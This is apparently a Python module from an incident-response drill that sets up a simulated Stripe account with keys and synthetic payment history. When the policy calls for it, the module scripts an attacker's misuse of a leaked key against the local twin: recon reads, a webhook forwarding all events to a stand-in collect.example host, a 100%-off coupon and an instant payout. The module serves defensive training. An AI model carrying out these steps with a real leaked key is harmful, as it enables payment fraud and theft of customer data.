"""The Stripe account of a drill: its keys, its past, and a stranger's use of the leaked key."""

import json
import time
from dataclasses import dataclass, field
from http.client import HTTPConnection
from pathlib import Path
from random import Random
from urllib.parse import urlencode, urlsplit

from ir.core.model import Json, Policy
from ir.drill.embedded.options import DrillOptions
from ir.drill.embedded.payment_loop import egress_row
from ir.drill.embedded.shifted_clock import BentClock
from ir.drill.twin import Key, Limits, StripeTwin, TwinSettings
from ir.drill.twin.permissions import ACCEPTED

_READS = (*sorted(name for name in ACCEPTED if name.endswith("_read")), "activity_log_read")
"""What the review key may do."""
EXPOSED_BEFORE = 600.0
"""Seconds between the exposure and the moment when somebody notices."""
_DAYS, _DAY = 14, 86_400.0
STRANGER = "127.0.0.66"
"""Address that a stranger's calls come from; ours come from 127.0.0.1."""


@dataclass
class Account:
    """Keys of the account; all rows of the twin's own table.

    Attributes:
        leaked: the key that got out.
        bystander: a live key that has nothing to do with the incident and must survive it.
        review: read-only, for evidence and as control key.
        app: may mint; belongs to another account.
        exposed_at: epoch seconds.
        loot: paths of what a stranger left behind, to be removed by a human.
    """

    twin: StripeTwin
    leaked: Key
    bystander: Key
    review: Key
    app: Key
    exposed_at: float
    loot: list[str] = field(default_factory=list)

    def clean_up(self) -> None:
        """What a human does in the Dashboard after reading the report: removes what the stranger left."""
        for path in list(self.loot):
            self.remove(path)

    def remove(self, path: str) -> None:
        """One thing that the stranger left; a path that is not in `loot` is none."""
        if path in self.loot:
            self.loot.remove(path)
            method = "POST" if path.endswith("/cancel") else "DELETE"
            # By the app, whose key no click of a drill can kill.
            _call(self.twin, self.app, method, path, headers={"Stripe-Context": self.twin.account})


def settings(options: DrillOptions) -> TwinSettings:
    """A twin as unkind as Stripe was measured to be: delayed death, delayed narrowing, rate limits."""
    return TwinSettings(mode=options.mode, death_delay=options.death, narrow_delay=1.2, limits=Limits())


def open_account(twin: StripeTwin, clock: BentClock, options: DrillOptions, names: list[str], egress: Path) -> Account:
    """Make keys, two weeks of payments with their egress log, and the misuse that the policy presumes."""
    now = time.time()
    exposed = now - EXPOSED_BEFORE
    clock.set(now - (_DAYS + 7) * _DAY)
    account = Account(
        twin,
        leaked=twin.create_secret_key("payments"),
        bystander=twin.create_secret_key("accounting"),
        review=twin.create_restricted_key(_READS, "incident review"),
        app=twin.create_app_key(),
        exposed_at=exposed,
    )
    rng = Random(f"{options.seed} past")  # noqa: S311 - repeatable, nothing secret
    _past(account, clock, rng, names, egress, now)
    if options.policy is Policy.EXPLOITED:
        _misuse(account, clock)
    if options.dead_on_arrival:
        clock.set(now - 60)
        twin.stripe_deactivates(account.leaked)
    clock.set(None)
    return account


def _past(account: Account, clock: BentClock, rng: Random, names: list[str], egress: Path, now: float) -> None:
    """Payments by day and, on the last day, up to now; each leaves its line in the egress log."""
    moments = [now - day * _DAY - rng.uniform(0, 0.9) * _DAY for day in range(1, _DAYS) for _ in range(10)]
    moments += [now - rng.uniform(5, 1.5 * _DAY) for _ in range(30)]
    rows = []
    for number, at in enumerate(sorted(moments)):
        clock.set(at)
        service, order = rng.choice(names), f"past-{number:05d}"
        fields = {"amount": str(rng.randrange(200, 25_000)), "currency": "usd", "confirm": "true", "payment_method": "pm_card_visa"}
        headers = {"Idempotency-Key": order, "User-Agent": f"{service}/1.0"}
        _, request_id = _call(account.twin, account.leaked, "POST", "/v1/payment_intents", fields, headers)
        rows.append(egress_row(at, service, "POST", "/v1/payment_intents", 200, request_id, order))
    egress.write_text("".join(rows), encoding="utf-8")


def _misuse(account: Account, clock: BentClock) -> None:
    """Recon, then writes: a webhook that copies events out, a coupon for everything, an instant payout."""
    twin, key, at = account.twin, account.leaked, account.exposed_at + 120
    steps: list[tuple[str, str, dict[str, str]]] = [
        *[("GET", f"/v1/{path}?limit=100", {}) for path in ("balance", "customers", "charges", "payouts")],
        ("POST", "/v1/webhook_endpoints", {"url": "https://collect.example/hook", "enabled_events[0]": "*"}),
        ("POST", "/v1/coupons", {"percent_off": "100", "duration": "forever"}),
        ("POST", "/v1/payouts", {"amount": "90000", "currency": "usd", "method": "instant"}),
    ]
    for method, path, fields in steps:
        at += 7
        clock.set(at)
        path = path.replace("balance?limit=100", "balance")
        made, _ = _call(twin, key, method, path, fields, {"User-Agent": "python-requests/2.32"}, source=STRANGER)
        if method == "POST":
            account.loot.append(f"{path}/{made['id']}" + ("/cancel" if path.endswith("payouts") else ""))


def _call(
    twin: StripeTwin,
    key: Key,
    method: str,
    path: str,
    fields: dict[str, str] | None = None,
    headers: dict[str, str] | None = None,
    *,
    source: str = "127.0.0.1",
) -> tuple[Json, str]:
    """One successful call without any SDK: body and request id."""
    line = HTTPConnection(urlsplit(twin.url).netloc, timeout=10, source_address=(source, 0))
    try:
        sent = {"Authorization": f"Bearer {key.token.reveal()}", "Content-Type": "application/x-www-form-urlencoded", **(headers or {})}
        line.request(method, path, urlencode(fields) if fields else None, sent)
        answer = line.getresponse()
        body: Json = json.loads(answer.read())
    finally:
        line.close()
    if answer.status != 200:
        raise RuntimeError(f"the twin answered {answer.status} to {method} {path}")
    return body, answer.getheader("Request-Id", "")
